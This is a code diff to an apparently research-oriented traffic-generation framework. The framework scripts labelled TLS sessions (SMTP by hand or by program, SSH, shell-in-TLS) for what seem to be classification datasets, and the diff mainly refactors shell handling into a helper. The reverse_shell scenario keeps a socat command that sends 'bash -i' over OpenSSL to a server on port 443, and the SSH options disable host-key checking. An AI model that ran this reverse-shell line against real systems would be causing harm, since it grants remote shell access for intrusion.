@@ -62,19 +62,8 @@ def _ssh(context: Context, outer: Terminator, name: str, work: str, method: str,
         where = ["-p", str(wrapper(client, context.server.address, 443))]
     else:
         where = ["-o", "ProxyCommand=" + " ".join(pipe(rng, context.server.address, 443))]
-    options = [
-        *where,
-        "-o",
-        "StrictHostKeyChecking=no",
-        "-o",
-        "UserKnownHostsFile=/dev/null",
-        "-o",
-        "LogLevel=ERROR",
-        "-o",
-        "IdentitiesOnly=yes",
-        "-o",
-        f"NumberOfPasswordPrompts={max(1, tries)}",
-    ]
+    options = [*where, *shell.TRUSTING, "-o", "IdentitiesOnly=yes"]
+    options += ["-o", f"NumberOfPasswordPrompts={max(1, tries)}"]
     if method == "password":
         options += ["-o", "PubkeyAuthentication=no"]
     else:
@@ -126,6 +115,18 @@ def _type_commands(context: Context, terminal: Terminal, typist: Typist | Bot, *
     terminal.pause(1.0)
 
 
+def _work_shell(context: Context, terminal: Terminal, typist: Typist | Bot, *, echoes: bool) -> None:
+    """Commands at a shell that is being reached, and the proof that one was; it may end before the last."""
+    terminal.pause(0.5 + 5 * context.link.rtt_ms / 1e3)
+    try:
+        _type_commands(context, terminal, typist, echoes=echoes)
+    except ProgramError:
+        if not terminal.ended():
+            raise
+    if PROOF not in terminal.output:
+        raise UncertainError("no shell answered")
+
+
 @scenario("tls.smtp.hand", runs=45, limit_s=400.0)
 def smtp_by_hand_inside(context: Context) -> None:
     """A mail typed into openssl s_client, ncat or socat."""
@@ -157,22 +158,7 @@ def smtp_by_program_inside(context: Context) -> None:
     )
     context.software("client", client, "")
     if client == "swaks":
-        done = context.client.run(
-            "swaks",
-            "--server",
-            bracketed(context.server.address),
-            "-p",
-            str(port),
-            "-tlsc",
-            "--from",
-            sender,
-            "--to",
-            recipient,
-            "--helo",
-            names.host(rng),
-            check=False,
-        )
-        delivered = done.returncode == 0
+        delivered = mail.swaks(context, port, sender, recipient, tls=True)
     elif client == "curl":
         text = context.client.folder / "letter"
         text.write_bytes(letter(rng))
@@ -229,14 +215,7 @@ def shell_inside(context: Context) -> None:
     actor = "human" if isinstance(typist, Typist) else "bot"
     context.software("client", command[0], "")
     with context.terminal(*command) as terminal:
-        terminal.pause(0.5 + 5 * context.link.rtt_ms / 1e3)
-        try:
-            _type_commands(context, terminal, typist, echoes=keyed)
-        except ProgramError:
-            if not terminal.ended():
-                raise
-        if PROOF not in terminal.output:
-            raise UncertainError("no shell answered")
+        _work_shell(context, terminal, typist, echoes=keyed)
     context.label(
         {"class": "tls", "tunnel": "shell-in-tls", "actor": actor, "activity": "shell"}, port=443, keyed=keyed
     )
@@ -259,14 +238,7 @@ def reverse_shell(context: Context) -> None:
         context.client.spawn(
             "socat", f"OPENSSL:{bracketed(context.server.address)}:443,verify=0", f"EXEC:bash -i{pty},stderr"
         )
-        terminal.pause(0.5 + 5 * context.link.rtt_ms / 1e3)
-        try:
-            _type_commands(context, terminal, typist, echoes=keyed)
-        except ProgramError:
-            if not terminal.ended():
-                raise
-        if PROOF not in terminal.output:
-            raise UncertainError("no shell answered")
+        _work_shell(context, terminal, typist, echoes=keyed)
     context.label({"class": "tls", "tunnel": "shell-in-tls", "activity": "reverse"}, port=443, keyed=keyed)
 
 
